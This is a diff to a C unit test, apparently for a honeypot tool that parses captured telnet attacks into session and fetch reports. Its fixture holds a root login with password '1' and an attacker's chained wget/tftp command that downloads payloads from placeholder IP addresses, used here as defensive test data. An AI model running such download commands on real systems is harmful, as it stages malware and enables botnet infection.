@@ -238,9 +238,12 @@ static void test_sessions(void **state)
 	write_file("events.jsonl",
 		   EVENT("telnet", "{\"kind\":\"login\",\"session\":4,\"username\":\"root\",\"password\":\"1\",\"success\":true}")
 		   EVENT("telnet", "{\"kind\":\"command\",\"session\":4,\"command\":\"wget http://5.5.5.5/a;tftp -g -l x -r b 6.6.6.6; tftp 7.7.7.7 -r c -g\"}")
+		   EVENT("loader", "{\"kind\":\"fetch\",\"tool\":\"wget\",\"url\":\"http://5.5.5.5/a\",\"dest\":\"a\"}")
 		   EVENT("report", "{\"address\":\"172.1.0.2\",\"port\":23,\"username\":\"root\",\"password\":\"1\"}"));
 	write_file("flows.jsonl", "");
 	facts = report_facts(folder);
+	assert_string_equal(facts_string(first(facts, "fetches"), "url"), "http://5.5.5.5/a");
+	assert_string_equal(facts_string(first(facts, "fetches"), "tool"), "wget");
 	session = first(facts, "sessions");
 	assert_int_equal(json_array_size(json_object_get(session, "urls")), 3);
 	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 0)),
